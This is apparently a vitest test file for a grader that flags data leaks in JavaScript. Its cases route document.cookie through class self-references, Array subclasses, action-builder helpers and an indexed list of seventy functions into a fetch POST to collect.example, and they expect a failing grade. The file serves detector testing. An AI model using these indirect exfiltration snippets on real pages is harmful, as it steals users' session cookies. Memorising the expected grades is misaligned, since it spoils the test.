import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const SEND = "const send = (x) => fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(x) });";

/* Ways by which libraries of state hold functions, with what is handed to one of them in the end. */
it.each<[string, (data: string) => string]>([
  [
    'a class knows itself by its own name, which only it sees',
    (data) =>
      `${SEND} const Box = class Own { constructor(v) { this.v = v; } with(v) { return new Own(v); } }; send(new Box(1).with(${data}).v);`,
  ],
  [
    'a kind of list that gives a longer one',
    (data) =>
      `${SEND} var Tuple = class Own extends Array { constructor(...all) { super(...all); } prepend(...first) { return new Own(...first.concat(this)); } }; const usual = () => new Tuple(); usual().prepend((x) => send(x)).forEach((one) => one(${data}));`,
  ],
  [
    'a function that is made for a name which another function has, too',
    (data) =>
      `${SEND} const act = (type) => { const made = (...all) => ({ type, payload: all[0] }); made.type = type; return made; }; const build = () => (own) => { const held = { by: {}, actions: {} }; const to = { reduce(name, f) { held.by[name] = f; return to; }, expose(name, f) { held.actions[name] = f; return to; } }; Object.keys(own.reducers).forEach((name) => to.reduce(name, own.reducers[name]).expose(name, act(name))); return { actions: held.actions, reducer: held.by }; }; const { signedIn } = build()({ reducers: { signedIn(state, action) { state.n = action.n; } } }).actions; send(signedIn(${data}).payload);`,
  ],
  [
    'one of seventy functions by a number that is told',
    (data) =>
      `${SEND} const all = [${Array.from({ length: 69 }, (_, i) => `(x) => ${i}`).join(', ')}, (x) => send(x)]; all[self.n](${data});`,
  ],
])('%s', async (_, program) => {
  expect(await graded({ content: program('document.cookie') })).toBe('F');
  expect(await graded({ content: program("'nothing'") })).toMatch(/^A/);
});
